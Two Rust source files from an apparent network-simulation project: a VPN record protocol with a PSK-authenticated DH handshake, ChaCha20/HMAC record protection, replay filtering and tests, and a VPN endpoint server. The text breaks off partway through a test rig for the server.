pub const PSK_LEN: usize = 32;

/// Encoded `Data` record header: kind (1) ∥ seq (8) ∥ tag (12).
const DATA_HEADER: usize = 21;

/// Upper bound on one framed record over the TCP transport. A length
/// prefix beyond this is stream desynchronization or tampering, not a
/// record — receivers reset the stream buffer instead of waiting
/// forever for bytes that never come.
pub const MAX_RECORD: usize = 64 * 1024;

/// Which encapsulation carries the records.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Transport {
    /// One record per UDP datagram.
    Udp,
    /// Length-prefixed records over a TCP stream (PPP-over-SSH style).
    Tcp,
}

/// Handshake / data messages.
#[derive(Clone, Debug, PartialEq)]
pub enum Message {
    /// C→S opener.
    ClientHello {
        /// Client identity (indexes the PSK on the server).
        client_id: u32,
        /// Client nonce.
        nonce: [u8; 16],
        /// Client DH public value.
        dh_pub: Vec<u8>,
    },
    /// S→C response.
    ServerHello {
        /// Server nonce.
        nonce: [u8; 16],
        /// Server DH public value.
        dh_pub: Vec<u8>,
        /// `HMAC(psk, "server-auth" ∥ transcript)`.
        auth: [u8; 20],
    },
    /// C→S authenticator.
    ClientAuth {
        /// `HMAC(psk, "client-auth" ∥ transcript)`.
        auth: [u8; 20],
    },
    /// Protected data record.
    Data {
        /// Record sequence number.
        seq: u64,
        /// Truncated HMAC tag over `seq ∥ ciphertext`.
        tag: [u8; 12],
        /// ChaCha20 ciphertext of the inner IP packet — a zero-copy
        /// slice of the received record when produced by [`decode`].
        ciphertext: Bytes,
    },
}

impl Message {
    /// Serialize.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(64);
        self.encode_into(&mut out);
        out
    }

    /// Serialize, appending to `out` (no intermediate allocation).
    pub fn encode_into(&self, out: &mut Vec<u8>) {
        match self {
            Message::ClientHello {
                client_id,
                nonce,
                dh_pub,
            } => {
                out.push(1);
                out.extend_from_slice(&client_id.to_be_bytes());
                out.extend_from_slice(nonce);
                out.extend_from_slice(dh_pub);
            }
            Message::ServerHello {
                nonce,
                dh_pub,
                auth,
            } => {
                out.push(2);
                out.extend_from_slice(nonce);
                out.extend_from_slice(dh_pub);
                out.extend_from_slice(auth);
            }
            Message::ClientAuth { auth } => {
                out.push(3);
                out.extend_from_slice(auth);
            }
            Message::Data {
                seq,
                tag,
                ciphertext,
            } => {
                out.push(4);
                out.extend_from_slice(&seq.to_be_bytes());
                out.extend_from_slice(tag);
                out.extend_from_slice(ciphertext);
            }
        }
    }

    /// Parse. Handshake messages are fixed-size and any length mismatch
    /// (truncation *or* trailing garbage) is rejected; `Data` records
    /// keep their ciphertext as a zero-copy slice of `bytes`.
    pub fn decode(bytes: &Bytes) -> Option<Message> {
        let (&kind, rest) = bytes.split_first()?;
        match kind {
            1 => {
                if rest.len() != 4 + 16 + ELEMENT_LEN {
                    return None;
                }
                Some(Message::ClientHello {
                    client_id: u32::from_be_bytes(rest[0..4].try_into().unwrap()),
                    nonce: rest[4..20].try_into().unwrap(),
                    dh_pub: rest[20..].to_vec(),
                })
            }
            2 => {
                if rest.len() != 16 + ELEMENT_LEN + 20 {
                    return None;
                }
                Some(Message::ServerHello {
                    nonce: rest[0..16].try_into().unwrap(),
                    dh_pub: rest[16..16 + ELEMENT_LEN].to_vec(),
                    auth: rest[16 + ELEMENT_LEN..].try_into().unwrap(),
                })
            }
            3 => {
                if rest.len() != 20 {
                    return None;
                }
                Some(Message::ClientAuth {
                    auth: rest.try_into().unwrap(),
                })
            }
            4 => {
                if rest.len() < 8 + 12 {
                    return None;
                }
                Some(Message::Data {
                    seq: u64::from_be_bytes(rest[0..8].try_into().unwrap()),
                    tag: rest[8..20].try_into().unwrap(),
                    ciphertext: bytes.slice(DATA_HEADER..),
                })
            }
            _ => None,
        }
    }
}

/// The handshake transcript both authenticators bind to.
pub fn transcript(
    client_id: u32,
    nonce_c: &[u8; 16],
    nonce_s: &[u8; 16],
    pub_c: &[u8],
    pub_s: &[u8],
) -> Vec<u8> {
    let mut t = Vec::with_capacity(4 + 32 + 2 * ELEMENT_LEN);
    t.extend_from_slice(&client_id.to_be_bytes());
    t.extend_from_slice(nonce_c);
    t.extend_from_slice(nonce_s);
    t.extend_from_slice(pub_c);
    t.extend_from_slice(pub_s);
    t
}

/// PSK authenticator for one role.
pub fn authenticator(psk: &[u8], role: &str, transcript: &[u8]) -> [u8; 20] {
    let mut msg = Vec::with_capacity(role.len() + transcript.len());
    msg.extend_from_slice(role.as_bytes());
    msg.extend_from_slice(transcript);
    hmac_sha1(psk, &msg)
}

/// Generate an ephemeral DH keypair from the simulation RNG.
pub fn gen_keypair(rng: &mut SimRng) -> DhKeyPair {
    let mut seed = [0u8; EXPONENT_LEN];
    rng.fill_bytes(&mut seed);
    DhKeyPair::generate(&seed)
}

/// Directional record protection for one established session side.
pub struct SessionCrypto {
    enc_tx: [u8; 32],
    /// Transmit-MAC midstates: the HMAC ipad/opad compressions are paid
    /// once here, at key derivation, and resumed per record.
    mac_tx: HmacSha1,
    enc_rx: [u8; 32],
    mac_rx: HmacSha1,
    seq_tx: u64,
    replay: ReplayWindow,
    /// Records rejected for bad tags (tampering / wrong keys).
    pub integrity_failures: u64,
    /// Records rejected as replays.
    pub replay_drops: u64,
    /// Records sealed (wire records produced).
    pub records_sealed: u64,
    /// Records opened (verified, decrypted, accepted).
    pub records_opened: u64,
    /// Payload bytes that had to be copied on `open` because the record
    /// buffer was still shared — 0 on the steady-state path, where the
    /// receiver holds the last reference and decrypts in place.
    pub bytes_copied: u64,
}

impl SessionCrypto {
    /// Derive directional keys. `is_client` selects which derived pair is
    /// used for transmit.
    pub fn derive(shared: &[u8], nonce_c: &[u8; 16], nonce_s: &[u8; 16], is_client: bool) -> Self {
        let mut context = Vec::with_capacity(32);
        context.extend_from_slice(nonce_c);
        context.extend_from_slice(nonce_s);
        let mut c2s_enc = [0u8; 32];
        let mut c2s_mac = [0u8; 32];
        let mut s2c_enc = [0u8; 32];
        let mut s2c_mac = [0u8; 32];
        derive_key(shared, "c2s-enc", &context, &mut c2s_enc);
        derive_key(shared, "c2s-mac", &context, &mut c2s_mac);
        derive_key(shared, "s2c-enc", &context, &mut s2c_enc);
        derive_key(shared, "s2c-mac", &context, &mut s2c_mac);
        let (enc_tx, mac_tx, enc_rx, mac_rx) = if is_client {
            (c2s_enc, c2s_mac, s2c_enc, s2c_mac)
        } else {
            (s2c_enc, s2c_mac, c2s_enc, c2s_mac)
        };
        SessionCrypto {
            enc_tx,
            mac_tx: HmacSha1::new(&mac_tx),
            enc_rx,
            mac_rx: HmacSha1::new(&mac_rx),
            seq_tx: 0,
            replay: ReplayWindow::new(),
            integrity_failures: 0,
            replay_drops: 0,
            records_sealed: 0,
            records_opened: 0,
            bytes_copied: 0,
        }
    }

    fn record_nonce(seq: u64) -> [u8; 12] {
        let mut n = [0u8; 12];
        n[..8].copy_from_slice(&seq.to_le_bytes());
        n
    }

    /// Protect one inner packet, producing the fully-encoded wire record
    /// in a single buffer: the payload is laid down once at its final
    /// offset, encrypted in place, and the tag (MAC'd by resuming the
    /// derivation-time midstates over `seq ∥ ciphertext`, no scratch
    /// buffer) is patched into the header.
    pub fn seal_record(&mut self, payload: &[u8]) -> Bytes {
        let seq = self.seq_tx;
        self.seq_tx += 1;
        let mut rec = Vec::with_capacity(DATA_HEADER + payload.len());
        rec.push(4);
        rec.extend_from_slice(&seq.to_be_bytes());
        rec.extend_from_slice(&[0u8; 12]); // tag, patched below
        rec.extend_from_slice(payload);
        ChaCha20::new(&self.enc_tx, &Self::record_nonce(seq), 0)
            .apply_keystream(&mut rec[DATA_HEADER..]);
        let mut mac = self.mac_tx.begin();
        mac.update(&seq.to_be_bytes());
        mac.update(&rec[DATA_HEADER..]);
        let tag = mac.finalize_96();
        rec[9..DATA_HEADER].copy_from_slice(&tag);
        self.records_sealed += 1;
        Bytes::from(rec)
    }

    /// Protect one inner packet as a [`Message`] (decoded view of
    /// [`seal_record`](Self::seal_record)'s buffer — same bytes, same
    /// single allocation).
    pub fn seal(&mut self, payload: &[u8]) -> Message {
        let rec = self.seal_record(payload);
        Message::decode(&rec).expect("self-encoded record parses")
    }

    /// Verify and decrypt one record. Returns the inner packet, or `None`
    /// (counting the reason) for forgeries and replays. When `ciphertext`
    /// is the sole reference to its buffer — the steady state for a
    /// just-received record — decryption happens in place and the
    /// returned plaintext aliases the received allocation.
    pub fn open(&mut self, seq: u64, tag: &[u8; 12], mut ciphertext: Bytes) -> Option<Bytes> {
        let mut mac = self.mac_rx.begin();
        mac.update(&seq.to_be_bytes());
        mac.update(&ciphertext);
        let expect = mac.finalize_96();
        if !verify_tag(&expect, tag) {
            self.integrity_failures += 1;
            return None;
        }
        if !self.replay.accept(seq) {
            self.replay_drops += 1;
            return None;
        }
        let mut cipher = ChaCha20::new(&self.enc_rx, &Self::record_nonce(seq), 0);
        let pt = if let Some(buf) = ciphertext.try_mut() {
            cipher.apply_keystream(buf);
            ciphertext
        } else {
            self.bytes_copied += ciphertext.len() as u64;
            let mut v = ciphertext.to_vec();
            cipher.apply_keystream(&mut v);
            Bytes::from(v)
        };
        self.records_opened += 1;
        Some(pt)
    }
}

/// 64-entry sliding window replay filter.
struct ReplayWindow {
    max_seq: u64,
    bitmap: u64,
    any: bool,
}

impl ReplayWindow {
    fn new() -> ReplayWindow {
        ReplayWindow {
            max_seq: 0,
            bitmap: 0,
            any: false,
        }
    }

    /// Accept `seq` exactly once; false for replays / too-old records.
    fn accept(&mut self, seq: u64) -> bool {
        if !self.any {
            self.any = true;
            self.max_seq = seq;
            self.bitmap = 1;
            return true;
        }
        if seq > self.max_seq {
            let shift = seq - self.max_seq;
            self.bitmap = if shift >= 64 { 0 } else { self.bitmap << shift };
            self.bitmap |= 1;
            self.max_seq = seq;
            true
        } else {
            let offset = self.max_seq - seq;
            if offset >= 64 {
                return false; // too old
            }
            let bit = 1u64 << offset;
            if self.bitmap & bit != 0 {
                return false; // replay
            }
            self.bitmap |= bit;
            true
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_sim::Seed;

    fn established_pair() -> (SessionCrypto, SessionCrypto) {
        let mut rng = SimRng::new(Seed(1));
        let ckp = gen_keypair(&mut rng);
        let skp = gen_keypair(&mut rng);
        let shared_c = ckp.agree(&skp.public).unwrap();
        let shared_s = skp.agree(&ckp.public).unwrap();
        assert_eq!(shared_c, shared_s);
        let nc = [1u8; 16];
        let ns = [2u8; 16];
        (
            SessionCrypto::derive(&shared_c, &nc, &ns, true),
            SessionCrypto::derive(&shared_s, &nc, &ns, false),
        )
    }

    #[test]
    fn message_codecs_roundtrip() {
        let mut rng = SimRng::new(Seed(2));
        let kp = gen_keypair(&mut rng);
        let msgs = vec![
            Message::ClientHello {
                client_id: 7,
                nonce: [9u8; 16],
                dh_pub: kp.public.clone(),
            },
            Message::ServerHello {
                nonce: [8u8; 16],
                dh_pub: kp.public.clone(),
                auth: [3u8; 20],
            },
            Message::ClientAuth { auth: [4u8; 20] },
            Message::Data {
                seq: 42,
                tag: [5u8; 12],
                ciphertext: Bytes::copy_from_slice(b"packet bytes"),
            },
        ];
        for m in msgs {
            assert_eq!(Message::decode(&Bytes::from(m.encode())).unwrap(), m);
        }
        assert!(Message::decode(&Bytes::new()).is_none());
        assert!(Message::decode(&Bytes::copy_from_slice(&[9, 1, 2])).is_none());
    }

    #[test]
    fn handshake_length_mismatch_rejected() {
        // Handshake messages are fixed-size: truncation AND trailing
        // garbage must both fail, not be silently accepted.
        let mut rng = SimRng::new(Seed(5));
        let kp = gen_keypair(&mut rng);
        let msgs = vec![
            Message::ClientHello {
                client_id: 1,
                nonce: [0u8; 16],
                dh_pub: kp.public.clone(),
            },
            Message::ServerHello {
                nonce: [0u8; 16],
                dh_pub: kp.public.clone(),
                auth: [0u8; 20],
            },
            Message::ClientAuth { auth: [0u8; 20] },
        ];
        for m in msgs {
            let good = m.encode();
            assert!(Message::decode(&Bytes::from(good.clone())).is_some());
            let mut longer = good.clone();
            longer.push(0xEE);
            assert!(
                Message::decode(&Bytes::from(longer)).is_none(),
                "trailing garbage accepted for {m:?}"
            );
            let shorter = Bytes::from(good).slice(..m.encode().len() - 1);
            assert!(
                Message::decode(&shorter).is_none(),
                "truncation accepted for {m:?}"
            );
        }
        // A Data record shorter than its fixed header is rejected too.
        let mut stub = vec![4u8];
        stub.extend_from_slice(&[0u8; 19]); // 1 byte short of seq ∥ tag
        assert!(Message::decode(&Bytes::from(stub)).is_none());
    }

    #[test]
    fn encode_into_appends_without_reset() {
        let m = Message::ClientAuth { auth: [4u8; 20] };
        let mut out = vec![0xAB, 0xCD];
        m.encode_into(&mut out);
        assert_eq!(&out[..2], &[0xAB, 0xCD]);
        assert_eq!(&out[2..], &m.encode()[..]);
    }

    #[test]
    fn seal_record_matches_seal_and_aliases_one_buffer() {
        let (mut c, _) = established_pair();
        let (mut c2, _) = established_pair(); // same keys, fresh seq
        let rec = c.seal_record(b"one buffer");
        let Message::Data {
            seq,
            tag,
            ciphertext,
        } = Message::decode(&rec).unwrap()
        else {
            unreachable!()
        };
        // The decoded ciphertext is a view of the record allocation,
        // not a copy.
        assert_eq!(ciphertext.as_ptr(), rec[DATA_HEADER..].as_ptr());
        // Same keys, same seq: `seal` (via the compatibility path) and
        // `seal_record` produce identical wire bytes.
        let Message::Data {
            seq: seq2,
            tag: tag2,
            ciphertext: ct2,
        } = c2.seal(b"one buffer")
        else {
            unreachable!()
        };
        assert_eq!((seq, tag, &ciphertext), (seq2, tag2, &ct2));
        assert_eq!(c.records_sealed, 1);
    }

    #[test]
    fn open_unique_buffer_decrypts_in_place() {
        let (mut c, mut s) = established_pair();
        let rec = c.seal_record(b"decrypt me in place");
        let base = rec.as_ptr() as usize;
        let len = rec.len();
        let Message::Data {
            seq,
            tag,
            ciphertext,
        } = Message::decode(&rec).unwrap()
        else {
            unreachable!()
        };
        drop(rec); // receiver now holds the only reference
        let pt = s.open(seq, &tag, ciphertext).unwrap();
        assert_eq!(pt, b"decrypt me in place"[..]);
        let p = pt.as_ptr() as usize;
        assert!(
            (base..base + len).contains(&p),
            "plaintext must alias the received record buffer"
        );
        assert_eq!(s.bytes_copied, 0);
        assert_eq!(s.records_opened, 1);
    }

    #[test]
    fn open_shared_buffer_falls_back_to_copy() {
        let (mut c, mut s) = established_pair();
        let rec = c.seal_record(b"shared buffer");
        let Message::Data {
            seq,
            tag,
            ciphertext,
        } = Message::decode(&rec).unwrap()
        else {
            unreachable!()
        };
        // `rec` still alive: the buffer is shared, so open must not
        // mutate it — and must count the copy it takes instead.
        let pt = s.open(seq, &tag, ciphertext).unwrap();
        assert_eq!(pt, b"shared buffer"[..]);
        assert_eq!(s.bytes_copied, b"shared buffer".len() as u64);
        let Message::Data { ciphertext, .. } = Message::decode(&rec).unwrap() else {
            unreachable!()
        };
        assert_ne!(pt, ciphertext, "record bytes must be untouched");
    }

    #[test]
    fn seal_open_roundtrip_both_directions() {
        let (mut c, mut s) = established_pair();
        let m = c.seal(b"client to server");
        let Message::Data {
            seq,
            tag,
            ciphertext,
        } = m
        else {
            unreachable!()
        };
        assert_ne!(&ciphertext[..], b"client to server");
        assert_eq!(
            s.open(seq, &tag, ciphertext).unwrap(),
            b"client to server"[..]
        );

        let m = s.seal(b"server to client");
        let Message::Data {
            seq,
            tag,
            ciphertext,
        } = m
        else {
            unreachable!()
        };
        assert_eq!(
            c.open(seq, &tag, ciphertext).unwrap(),
            b"server to client"[..]
        );
    }

    #[test]
    fn tampering_detected() {
        let (mut c, mut s) = established_pair();
        let Message::Data {
            seq,
            tag,
            ciphertext,
        } = c.seal(b"do not touch")
        else {
            unreachable!()
        };
        let mut tampered = ciphertext.to_vec();
        tampered[0] ^= 0x01;
        assert!(s.open(seq, &tag, Bytes::from(tampered)).is_none());
        assert_eq!(s.integrity_failures, 1);
    }

    #[test]
    fn replay_rejected() {
        let (mut c, mut s) = established_pair();
        let Message::Data {
            seq,
            tag,
            ciphertext,
        } = c.seal(b"once only")
        else {
            unreachable!()
        };
        assert!(s.open(seq, &tag, ciphertext.clone()).is_some());
        assert!(s.open(seq, &tag, ciphertext).is_none());
        assert_eq!(s.replay_drops, 1);
    }

    #[test]
    fn out_of_order_within_window_accepted() {
        let (mut c, mut s) = established_pair();
        let records: Vec<_> = (0..5).map(|i| c.seal(format!("r{i}").as_bytes())).collect();
        // Deliver 4, 2, 0, 1, 3.
        for idx in [4usize, 2, 0, 1, 3] {
            let Message::Data {
                seq,
                tag,
                ciphertext,
            } = &records[idx]
            else {
                unreachable!()
            };
            assert!(
                s.open(*seq, tag, ciphertext.clone()).is_some(),
                "record {idx} must be accepted"
            );
        }
        assert_eq!(s.replay_drops, 0);
    }

    #[test]
    fn replay_window_edges() {
        let mut w = ReplayWindow::new();
        assert!(w.accept(5));
        assert!(!w.accept(5));
        assert!(w.accept(4));
        assert!(w.accept(100));
        assert!(!w.accept(36), "slid out of window");
        assert!(w.accept(37), "exactly at window edge");
    }

    #[test]
    fn wrong_psk_authenticators_differ() {
        let t = transcript(1, &[1; 16], &[2; 16], &[3; 128], &[4; 128]);
        let a = authenticator(&[7u8; PSK_LEN], "server-auth", &t);
        let b = authenticator(&[8u8; PSK_LEN], "server-auth", &t);
        assert_ne!(a, b);
        // Role separation too.
        let c = authenticator(&[7u8; PSK_LEN], "client-auth", &t);
        assert_ne!(a, c);
    }

    #[test]
    fn directional_keys_differ() {
        let (mut c, _s) = established_pair();
        let Message::Data {
            ciphertext: ct1, ..
        } = c.seal(b"same plaintext")
        else {
            unreachable!()
        };
        // Re-derive as server and seal the same plaintext with seq 0: the
        // c2s and s2c streams must differ.
        let (_, mut s) = established_pair();
        let Message::Data {
            ciphertext: ct2, ..
        } = s.seal(b"same plaintext")
        else {
            unreachable!()
        };
        assert_ne!(ct1, ct2);
    }
}
