//! The VPN endpoint ("concentrator") on the trusted wired network.
//!
//! Decapsulated client packets are injected into the endpoint host's tun
//! interface; with `ip_forward` and a MASQUERADE rule on the wired side,
//! the endpoint relays them to the real servers and routes replies back
//! into the right client's tunnel. One endpoint serves many clients,
//! each provisioned with its own PSK and tunnel-internal address.

use std::collections::HashMap;

use bytes::Bytes;
use rogue_dot11::MacAddr;
use rogue_netstack::ethernet::EthFrame;
use rogue_netstack::ip::Ipv4Packet;
use rogue_netstack::{Host, IfIndex, Ipv4Addr, SocketHandle};
use rogue_services::apps::{App, AppEvent};
use rogue_sim::{SimRng, SimTime};

use crate::protocol::{
    authenticator, gen_keypair, transcript, Message, SessionCrypto, Transport, MAX_RECORD, PSK_LEN,
};

const ET_IPV4: u16 = 0x0800;

/// One provisioned client account.
#[derive(Clone, Debug)]
pub struct ClientAccount {
    /// Pre-shared key.
    pub psk: [u8; PSK_LEN],
    /// Tunnel-internal address assigned to this client.
    pub tun_ip: Ipv4Addr,
}

/// Server configuration.
#[derive(Clone, Debug)]
pub struct VpnServerConfig {
    /// Transport listen port.
    pub port: u16,
    /// Encapsulation.
    pub transport: Transport,
    /// Provisioned accounts by client id.
    pub accounts: HashMap<u32, ClientAccount>,
    /// The endpoint host's tun interface.
    pub tun_ifindex: IfIndex,
    /// MAC used as the clients' address on the tun link.
    pub tun_peer_mac: MacAddr,
}

/// How a session reaches its client.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
enum PeerKey {
    Udp(Ipv4Addr, u16),
    Tcp(SocketHandle),
}

enum SessionState {
    AwaitAuth {
        expected_auth: [u8; 20],
        crypto: SessionCrypto,
        server_hello: Message,
    },
    Established(SessionCrypto),
}

struct Session {
    /// Owning account (diagnostics).
    #[allow(dead_code)]
    client_id: u32,
    tun_ip: Ipv4Addr,
    state: SessionState,
}

/// The endpoint app.
pub struct VpnServer {
    cfg: VpnServerConfig,
    udp_sock: Option<SocketHandle>,
    tcp_listener: Option<SocketHandle>,
    tcp_rx: HashMap<SocketHandle, Vec<u8>>,
    sessions: HashMap<PeerKey, Session>,
    by_tun_ip: HashMap<Ipv4Addr, PeerKey>,
    rng: SimRng,
    /// Records relayed client→wired.
    pub records_in: u64,
    /// Records relayed wired→client.
    pub records_out: u64,
    /// Handshakes completed.
    pub sessions_established: u64,
    /// ClientHello with unknown id / bad auth.
    pub auth_rejections: u64,
}

impl VpnServer {
    /// New endpoint.
    pub fn new(cfg: VpnServerConfig, rng: SimRng) -> VpnServer {
        VpnServer {
            cfg,
            udp_sock: None,
            tcp_listener: None,
            tcp_rx: HashMap::new(),
            sessions: HashMap::new(),
            by_tun_ip: HashMap::new(),
            rng,
            records_in: 0,
            records_out: 0,
            sessions_established: 0,
            auth_rejections: 0,
        }
    }

    /// Total integrity failures across sessions.
    pub fn integrity_failures(&self) -> u64 {
        self.sessions
            .values()
            .map(|s| match &s.state {
                SessionState::Established(c) | SessionState::AwaitAuth { crypto: c, .. } => {
                    c.integrity_failures
                }
            })
            .sum()
    }

    fn send_to(&mut self, now: SimTime, host: &mut Host, peer: PeerKey, msg: &Message) {
        self.send_record(now, host, peer, Bytes::from(msg.encode()));
    }

    /// Send one already-encoded record. The UDP datagram takes the
    /// buffer as-is; TCP framing pays one copy for the length prefix.
    fn send_record(&mut self, now: SimTime, host: &mut Host, peer: PeerKey, rec: Bytes) {
        match peer {
            PeerKey::Udp(ip, port) => {
                if let Some(sock) = self.udp_sock {
                    host.udp_send_bytes(now, sock, ip, port, rec);
                }
            }
            PeerKey::Tcp(sock) => {
                let mut framed = Vec::with_capacity(4 + rec.len());
                framed.extend_from_slice(&(rec.len() as u32).to_be_bytes());
                framed.extend_from_slice(&rec);
                host.tcp_send(now, sock, &framed);
            }
        }
    }

    fn on_message(&mut self, now: SimTime, host: &mut Host, peer: PeerKey, msg: Message) {
        match msg {
            Message::ClientHello {
                client_id,
                nonce: nonce_c,
                dh_pub: client_pub,
            } => {
                // Retransmitted hello for a pending session: replay our
                // ServerHello.
                if let Some(sess) = self.sessions.get(&peer) {
                    if let SessionState::AwaitAuth { server_hello, .. } = &sess.state {
                        let hello = server_hello.clone();
                        self.send_to(now, host, peer, &hello);
                        return;
                    }
                }
                let Some(account) = self.cfg.accounts.get(&client_id).cloned() else {
                    self.auth_rejections += 1;
                    return;
                };
                let kp = gen_keypair(&mut self.rng);
                let Some(shared) = kp.agree(&client_pub) else {
                    self.auth_rejections += 1;
                    return;
                };
                let mut nonce_s = [0u8; 16];
                self.rng.fill_bytes(&mut nonce_s);
                let t = transcript(client_id, &nonce_c, &nonce_s, &client_pub, &kp.public);
                let auth = authenticator(&account.psk, "server-auth", &t);
                let expected_auth = authenticator(&account.psk, "client-auth", &t);
                let crypto = SessionCrypto::derive(&shared, &nonce_c, &nonce_s, false);
                let server_hello = Message::ServerHello {
                    nonce: nonce_s,
                    dh_pub: kp.public.clone(),
                    auth,
                };
                self.send_to(now, host, peer, &server_hello);
                self.sessions.insert(
                    peer,
                    Session {
                        client_id,
                        tun_ip: account.tun_ip,
                        state: SessionState::AwaitAuth {
                            expected_auth,
                            crypto,
                            server_hello,
                        },
                    },
                );
            }
            Message::ClientAuth { auth } => {
                let Some(sess) = self.sessions.get_mut(&peer) else {
                    return;
                };
                let SessionState::AwaitAuth {
                    expected_auth,
                    crypto,
                    ..
                } = &mut sess.state
                else {
                    return;
                };
                if *expected_auth != auth {
                    self.auth_rejections += 1;
                    self.sessions.remove(&peer);
                    return;
                }
                let crypto = std::mem::replace(
                    crypto,
                    SessionCrypto::derive(&[0u8; 16], &[0; 16], &[0; 16], false),
                );
                let tun_ip = sess.tun_ip;
                sess.state = SessionState::Established(crypto);
                self.by_tun_ip.insert(tun_ip, peer);
                self.sessions_established += 1;
            }
            Message::Data {
                seq,
                tag,
                ciphertext,
            } => {
                let Some(sess) = self.sessions.get_mut(&peer) else {
                    return;
                };
                let SessionState::Established(crypto) = &mut sess.state else {
                    return;
                };
                if let Some(packet) = crypto.open(seq, &tag, ciphertext) {
                    // Only accept inner packets sourced from the client's
                    // assigned tunnel address (anti-spoofing).
                    if let Some(ip) = Ipv4Packet::decode(&packet) {
                        if ip.src != sess.tun_ip {
                            return;
                        }
                    } else {
                        return;
                    }
                    self.records_in += 1;
                    let tun_mac = host.iface(self.cfg.tun_ifindex).mac;
                    let frame = EthFrame::new(tun_mac, self.cfg.tun_peer_mac, ET_IPV4, packet);
                    host.on_link_rx(now, self.cfg.tun_ifindex, &frame.encode());
                }
            }
            Message::ServerHello { .. } => {}
        }
    }

    /// The endpoint host routed a packet into the tunnel: find the
    /// session owning the inner destination and encapsulate.
    pub fn consume_tun_frame(&mut self, now: SimTime, host: &mut Host, frame: &Bytes) {
        let Some(eth) = EthFrame::decode(frame) else {
            return;
        };
        if eth.ethertype != ET_IPV4 {
            return;
        }
        let Some(ip) = Ipv4Packet::decode(&eth.payload) else {
            return;
        };
        let Some(&peer) = self.by_tun_ip.get(&ip.dst) else {
            return;
        };
        let Some(sess) = self.sessions.get_mut(&peer) else {
            return;
        };
        let SessionState::Established(crypto) = &mut sess.state else {
            return;
        };
        let rec = crypto.seal_record(&eth.payload);
        self.records_out += 1;
        self.send_record(now, host, peer, rec);
    }

    /// Record-layer counters summed over every session (established or
    /// awaiting auth): `(records_sealed, records_opened, bytes_copied)`.
    pub fn record_stats(&self) -> (u64, u64, u64) {
        self.sessions
            .values()
            .map(|s| match &s.state {
                SessionState::Established(c) | SessionState::AwaitAuth { crypto: c, .. } => {
                    (c.records_sealed, c.records_opened, c.bytes_copied)
                }
            })
            .fold((0, 0, 0), |(a, b, c), (x, y, z)| (a + x, b + y, c + z))
    }
}

impl App for VpnServer {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, _out: &mut Vec<AppEvent>) {
        // Clients on the tun link are resolved statically.
        let peer_mac = self.cfg.tun_peer_mac;
        for (&tun_ip, _) in self.by_tun_ip.clone().iter() {
            host.arp_cache.insert(now, tun_ip, peer_mac);
        }
        match self.cfg.transport {
            Transport::Udp => {
                let port = self.cfg.port;
                let sock = *self.udp_sock.get_or_insert_with(|| host.udp_bind(port));
                while let Some((src, sport, payload)) = host.udp_recv(sock) {
                    if let Some(msg) = Message::decode(&payload) {
                        self.on_message(now, host, PeerKey::Udp(src, sport), msg);
                    }
                }
            }
            Transport::Tcp => {
                let port = self.cfg.port;
                let listener = *self
                    .tcp_listener
                    .get_or_insert_with(|| host.tcp_listen(port));
                while let Some(h) = host.tcp_accept(listener) {
                    self.tcp_rx.insert(h, Vec::new());
                }
                let conns: Vec<SocketHandle> = self.tcp_rx.keys().copied().collect();
                for h in conns {
                    let chunk = host.tcp_recv(h, 256 * 1024);
                    let mut msgs = Vec::new();
                    {
                        let buf = self.tcp_rx.get_mut(&h).expect("tracked");
                        buf.extend_from_slice(&chunk);
                        while buf.len() >= 4 {
                            let len = u32::from_be_bytes(buf[..4].try_into().unwrap()) as usize;
                            if len > MAX_RECORD {
                                // Desynced or hostile stream: no record is
                                // this large, drop the buffer rather than
                                // stall waiting for phantom bytes.
                                buf.clear();
                                break;
                            }
                            if buf.len() < 4 + len {
                                break;
                            }
                            let rec = Bytes::copy_from_slice(&buf[4..4 + len]);
                            if let Some(m) = Message::decode(&rec) {
                                msgs.push(m);
                            }
                            buf.drain(..4 + len);
                        }
                    }
                    for m in msgs {
                        self.on_message(now, host, PeerKey::Tcp(h), m);
                    }
                    if host.tcp_is_closed(h) {
                        self.tcp_rx.remove(&h);
                        if let Some(sess) = self.sessions.remove(&PeerKey::Tcp(h)) {
                            self.by_tun_ip.remove(&sess.tun_ip);
                        }
                        host.tcp_release(h);
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::{VpnClient, VpnClientConfig};
    use rogue_services::apps::App;
    use rogue_sim::{Seed, SimDuration};

    const CLIENT_WIFI_IP: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 50);
    const SERVER_WIRED_IP: Ipv4Addr = Ipv4Addr::new(192, 168, 0, 200);
    const CLIENT_TUN_IP: Ipv4Addr = Ipv4Addr::new(10, 8, 0, 2);
    const SERVER_TUN_IP: Ipv4Addr = Ipv4Addr::new(10, 8, 0, 1);

    struct Rig {
        client_host: Host,
        server_host: Host,
        client: VpnClient,
        server: VpnServer,
        client_tun: IfIndex,
        server_tun: IfIndex,
        now: SimTime,
    }

    fn rig(transport: Transport, client_psk: [u8; PSK_LEN], server_psk: [u8; PSK_LEN]) -> Rig {
        let mut client_host = Host::new("victim", SimRng::new(Seed(1)));
        let mut server_host = Host::new("endpoint", SimRng::new(Seed(2)));
        // Physical link (one subnet for simplicity).
        client_host.add_iface(MacAddr::local(1), CLIENT_WIFI_IP, 24);
        server_host.add_iface(MacAddr::local(2), SERVER_WIRED_IP, 24);
        // Tun devices.
        let client_tun = client_host.add_iface(MacAddr::local(101), CLIENT_TUN_IP, 24);
        let server_tun = server_host.add_iface(MacAddr::local(102), SERVER_TUN_IP, 24);
        // All client traffic into the tunnel; transport via the wifi side.
        client_host.routes.add_host(SERVER_WIRED_IP, 0);
        client_host.routes.add_default(SERVER_TUN_IP, client_tun);
        // Endpoint forwards and masquerades on the wired side.
        server_host.ip_forward = true;

        let client = VpnClient::new(
            VpnClientConfig {
                server: (SERVER_WIRED_IP, 4500),
                psk: client_psk,
                client_id: 7,
                transport,
                tun_ifindex: client_tun,
                tun_gateway_ip: SERVER_TUN_IP,
                tun_gateway_mac: MacAddr::local(102),
                start_at: SimTime::from_millis(1),
            },
            SimRng::new(Seed(3)),
        );
        let mut accounts = HashMap::new();
        accounts.insert(
            7,
            ClientAccount {
                psk: server_psk,
                tun_ip: CLIENT_TUN_IP,
            },
        );
        let server = VpnServer::new(
            VpnServerConfig {
